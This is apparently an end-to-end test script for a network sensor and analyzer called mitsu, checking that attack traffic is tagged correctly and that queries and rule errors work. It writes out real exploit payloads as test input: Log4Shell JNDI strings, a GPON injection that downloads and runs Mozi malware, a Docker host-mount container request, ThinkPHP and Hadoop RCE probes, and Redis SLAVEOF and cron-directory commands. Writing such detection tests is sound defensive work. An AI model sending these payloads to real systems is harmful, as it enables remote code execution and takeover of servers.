#!/bin/sh
# Exploit tags end to end: real clients (curl, redis-cli) send attack-shaped
# requests to the sensor, each on its own port; the store is analysed with
# the default rule set (found beside the binary) and each flow must carry
# the expected tag, a plain `curl /` none.  Then the records go into SQLite
# and `mitsu query` counts per tag and filters on one.
. "$(dirname "$0")/lib.sh"

netns_setup || { notok "namespace setup"; exit 1; }
start_sensor

# Clients run in the background and are waited for by pid (a bare `wait`
# would wait for the sensor too).
PIDS=
get() { # port, curl options...
	shift
	cns timeout 3 curl -s -m 2 "$@" >/dev/null 2>&1 &
	PIDS="$PIDS $!"
}
get 8081 -A '${jndi:ldap://198.51.100.23:1389/a}' "http://$SADDR:8081/"
get 8082 -H 'X-Api-Version: ${${lower:j}${::-n}di:rmi://198.51.100.23/a}' "http://$SADDR:8082/"
get 8083 --data 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.3:8088/Mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0' \
	"http://$SADDR:8083/GponForm/diag_Form?images/"
get 2375 -H 'Content-Type: application/json' \
	--data '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","id"],"HostConfig":{"Binds":["/:/mnt"]}}' \
	"http://$SADDR:2375/v1.41/containers/create"
get 8084 --path-as-is "http://$SADDR:8084/vpn/../vpns/cfg/smb.conf"
get 8085 "http://$SADDR:8085/.env"
get 8086 -g "http://$SADDR:8086/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x"
get 8087 -X POST "http://$SADDR:8087/ws/v1/cluster/apps/new-application"
get 8090 "http://$SADDR:8090/"
cns timeout 3 redis-cli -h "$SADDR" -p 6379 SLAVEOF 198.51.100.6 8886 >/dev/null 2>&1 &
PIDS="$PIDS $!"
cns timeout 3 redis-cli -h "$SADDR" -p 6380 CONFIG SET dir /var/spool/cron/ >/dev/null 2>&1 &
PIDS="$PIDS $!"
for p in $PIDS; do wait "$p"; done
sleep 0.5
stop_sensor

"$MITSU" analyze --json -q "$WORK/store" >"$WORK/records.jsonl" 2>"$WORK/analyze.log"
check "analyze ran with the default rules" test -s "$WORK/records.jsonl"

# port -> the tag its flow must carry ("" = no tag at all)
python3 - "$WORK/records.jsonl" <<'EOF'
import json, sys
want = {8081: "log4shell", 8082: "log4shell", 8083: "gpon-rce", 2375: "docker-api-create",
        8084: "citrix-traversal", 8085: "dotenv-probe", 8086: "thinkphp-rce",
        8087: "hadoop-yarn-rce", 6379: "redis-slaveof", 6380: "redis-config-set", 8090: ""}
got = {}
for line in open(sys.argv[1]):
    r = json.loads(line)
    if r["dst_port"] in want and r.get("payload_len", 0) > 0:
        got.setdefault(r["dst_port"], []).append(r)
for port, tag in sorted(want.items()):
    recs = got.get(port, [])
    if not recs:
        print(f"not ok - port {port}: no record with payload")
        continue
    tags = sorted({t for r in recs for t in r["tags"]})
    if tag:
        refs = [x for r in recs for x in r.get("rules", {}).get("ids", [])]
        ok = tag in tags and refs
    else:
        ok = not tags and not any("rules" in r for r in recs)
    print(f"{'ok' if ok else 'not ok'} - port {port}: tags {tags} (want {tag or 'none'})")
EOF

# the same records in SQLite: per-tag counts and an "any tag" filter
"$MITSU" analyze -q --db "$WORK/m.db" "$WORK/store" 2>>"$WORK/analyze.log"
"$MITSU" query --db "$WORK/m.db" --tsv 'stats count(*) as n by tags' >"$WORK/bytag.tsv" 2>&1
check "query: stats count(*) by tags counts log4shell twice" grep -q '^log4shell	2$' "$WORK/bytag.tsv"
check "query: stats count(*) by tags has one row per tag" \
	sh -c "! grep -q '\\[' '$WORK/bytag.tsv'"
"$MITSU" query --db "$WORK/m.db" --tsv "filter tags = 'log4shell' | fields dst_port | sort dst_port" \
	>"$WORK/l4.tsv" 2>&1
check "query: filter tags = 'log4shell' finds ports 8081 and 8082" \
	sh -c "grep -v dst_port '$WORK/l4.tsv' | tr '\n' ' ' | grep -qx '8081 8082 '"
"$MITSU" query --db "$WORK/m.db" --tsv "filter dst_port = 8090 and tags != 'log4shell' | fields dst_port" \
	>"$WORK/none.tsv" 2>&1
check "query: tags != 'x' keeps an untagged flow" grep -q '^8090$' "$WORK/none.tsv"

# a broken rule file stops the analyzer with FILE:LINE
mkdir "$WORK/badrules"
printf 'rule ok\n  content "x"\nrule bad\n  content "y"\n  regex /(/\n' >"$WORK/badrules/x.rules"
MITSU_RULES="$WORK/badrules" "$MITSU" analyze --json -q "$WORK/store" >/dev/null 2>"$WORK/bad.log"
rc=$?
check "bad rule file: analyze exits non-zero" test "$rc" -ne 0
check "bad rule file: the message names file:line" grep -q "badrules/x.rules:5: bad regex" "$WORK/bad.log"
